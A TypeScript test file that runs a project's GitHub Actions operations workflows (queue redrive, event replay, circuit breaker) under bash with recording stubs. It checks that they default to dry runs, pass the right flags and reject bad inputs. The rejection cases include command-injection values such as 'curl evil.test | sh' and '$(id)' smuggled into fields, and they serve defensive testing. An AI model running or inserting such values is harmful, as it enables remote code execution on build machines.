// The operations workflows' scripts do what the inputs say: each `run:` step of a job is executed under bash as
// GitHub runs it (bash -eo pipefail), with the inputs substituted and `npx`/`npm` replaced by recorders, so a
// dry run by default, the flags each input adds, and the refusal of hostile inputs are behaviour, not text.
import { execFile } from 'node:child_process';
import { chmod, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { workflows } from './workflowFiles.js';

describe('the workflow scripts do what the inputs say', () => {
  let dir: string;
  beforeAll(async () => {
    // `npx` and `npm` become recorders: each call appends its arguments, one per line, then a blank line.
    dir = await mkdtemp(join(tmpdir(), 'bulwark-workflow-'));
    for (const tool of ['npx', 'npm']) {
      await writeFile(
        join(dir, tool),
        `#!/bin/bash\nprintf '%s\\n' ${tool} "$@" >> "$RECORD"\necho >> "$RECORD"\n`,
      );
      await chmod(join(dir, tool), 0o755);
    }
  });
  afterAll(() => rm(dir, { recursive: true, force: true }));

  /** Runs every `run:` step of the file's job (as GitHub does: bash -eo pipefail), with `inputs` substituted. */
  async function dispatch(file: string, inputs: Record<string, string | boolean>) {
    const workflow = workflows[file]!;
    const declared = workflow.on.workflow_dispatch.inputs;
    const given = Object.fromEntries(
      Object.entries(declared).map(([name, input]) => [name, String(inputs[name] ?? input.default ?? '')]),
    );
    const expand = (value: string) =>
      value
        .replace(/\$\{\{\s*inputs\.([a-z_]+)\s*\}\}/g, (_, name: string) => given[name] ?? '')
        .replace(/\$\{\{\s*!inputs\.([a-z_]+)\s*\}\}/g, (_, name: string) => String(given[name] !== 'true'));
    const [job] = Object.values(workflow.jobs);
    const record = join(dir, `${file}.${Math.random()}.txt`);
    const env: Record<string, string> = {
      PATH: `${dir}:${process.env.PATH ?? ''}`,
      RECORD: record,
      GITHUB_ACTOR: 'octo',
      GITHUB_RUN_ID: '42',
      ...Object.fromEntries(Object.entries(job!.env ?? {}).map(([k, v]) => [k, expand(String(v))])),
    };
    await writeFile(record, '');
    for (const step of job!.steps) {
      if (step.run === undefined || (step.if !== undefined && expand(step.if) === 'false')) continue;
      const result = await bash(step.run, env);
      if (result.code !== 0)
        return { code: result.code, stderr: result.stdout + result.stderr, calls: await calls(record) };
    }
    return { code: 0, stderr: '', calls: await calls(record) };
  }

  async function calls(record: string): Promise<string[][]> {
    const text = await readFile(record, 'utf8');
    return text
      .split('\n\n')
      .filter((block) => block.trim() !== '')
      .map((block) => block.split('\n').filter((line) => line !== ''))
      .filter((argv) => argv[0] === 'npx')
      .map((argv) => argv.slice(3)); // npx --no-install bulwark
  }

  function bash(script: string, env: Record<string, string>) {
    return new Promise<{ code: number; stdout: string; stderr: string }>((resolve) => {
      execFile(
        'bash',
        ['--noprofile', '--norc', '-eo', 'pipefail', '-c', script],
        { env },
        (error, stdout, stderr) =>
          resolve({ code: error === null ? 0 : Number(error.code ?? 1), stdout, stderr }),
      );
    });
  }

  it('DLQ redrive: the defaults are a dry run (no --yes, no status step)', async () => {
    const run = await dispatch('bulwark-dlq-redrive.yml', { environment: 'production', queue: 'orders-dlq' });

    expect(run.code).toBe(0);
    expect(run.calls).toEqual([['dlq', 'redrive', 'orders-dlq']]);
  });

  it('DLQ redrive: unticking dry_run starts it, with --to and the rate, then prints the status', async () => {
    const run = await dispatch('bulwark-dlq-redrive.yml', {
      environment: 'staging',
      queue: 'arn:aws:sqs:eu-west-1:123456789012:orders-dlq',
      to: 'original',
      max_per_second: '50',
      dry_run: false,
    });

    expect(run.code).toBe(0);
    expect(run.calls).toEqual([
      [
        'dlq',
        'redrive',
        'arn:aws:sqs:eu-west-1:123456789012:orders-dlq',
        '--to',
        'original',
        '--max-per-second',
        '50',
        '--yes',
      ],
      ['dlq', 'status', 'arn:aws:sqs:eu-west-1:123456789012:orders-dlq'],
    ]);
  });

  it('event replay: a dry run by default; unticked, --yes and the status of the run-named replay', async () => {
    const inputs = {
      environment: 'production',
      archive: 'orders-archive',
      from: '2026-11-23T10:00:00Z',
      to: 'now',
    };

    const dry = await dispatch('bulwark-event-replay.yml', inputs);
    const real = await dispatch('bulwark-event-replay.yml', { ...inputs, rule: 'charge', dry_run: false });

    expect(dry.calls).toEqual([
      [
        'events',
        'replay',
        '--archive',
        'orders-archive',
        '--from',
        '2026-11-23T10:00:00Z',
        '--to',
        'now',
        '--name',
        'bulwark-42',
      ],
    ]);
    expect(real.calls).toEqual([
      [...(dry.calls[0] ?? []), '--rule', 'charge', '--yes'],
      ['events', 'replay-status', 'bulwark-42'],
    ]);
  });

  it('breaker: a dry run by default (--dry-run), --yes when unticked, the operator is the GitHub actor', async () => {
    const inputs = {
      environment: 'production',
      action: 'open',
      dependency: 'payments',
      reason: 'INC-7 "card" $(x)',
    };

    const dry = await dispatch('bulwark-breaker.yml', inputs);
    const real = await dispatch('bulwark-breaker.yml', { ...inputs, dry_run: false });

    expect(dry.calls[0]).toEqual([
      'breaker',
      'open',
      'payments',
      '--reason',
      'INC-7 "card" $(x)',
      '--operator',
      'github:octo',
      '--dry-run',
    ]);
    expect(real.calls[0]?.at(-1)).toBe('--yes');
    expect(real.calls[1]).toEqual(['breaker', 'status', 'payments']);
  });

  it.each([
    ['bulwark-dlq-redrive.yml', { queue: 'orders-dlq; curl evil.test | sh' }, /queue must be a queue name/],
    ['bulwark-dlq-redrive.yml', { queue: '$(id)' }, /queue must be a queue name/],
    ['bulwark-dlq-redrive.yml', { queue: 'q', to: '`id`' }, /to must be empty, original/],
    [
      'bulwark-dlq-redrive.yml',
      { queue: 'q', max_per_second: '501' },
      /max_per_second must be a whole number/,
    ],
    [
      'bulwark-dlq-redrive.yml',
      { queue: 'q', max_per_second: '1e2' },
      /max_per_second must be a whole number/,
    ],
    [
      'bulwark-event-replay.yml',
      { archive: 'a\nb', from: '2026-11-23T10:00:00Z', to: 'now' },
      /archive must be/,
    ],
    [
      'bulwark-event-replay.yml',
      { archive: 'a', from: 'yesterday', to: 'now' },
      /from must be an ISO 8601 time/,
    ],
    [
      'bulwark-event-replay.yml',
      { archive: 'a', from: '2026-11-23T10:00:00', to: 'now' },
      /from must be an ISO 8601 time/,
    ],
    ['bulwark-breaker.yml', { action: 'open', dependency: '../x', reason: 'r' }, /dependency must be/],
    ['bulwark-breaker.yml', { action: 'open', dependency: 'x', reason: '   ' }, /reason must be given/],
    [
      'bulwark-breaker.yml',
      { action: 'delete', dependency: 'x', reason: 'r' },
      /action must be open, close or clear/,
    ],
  ])('%s refuses %o before anything runs', async (file, inputs, message) => {
    const run = await dispatch(file, { environment: 'staging', ...inputs, dry_run: false });

    expect(run.code).not.toBe(0);
    expect(run.stderr).toMatch(message);
    expect(run.calls).toEqual([]);
  });
});
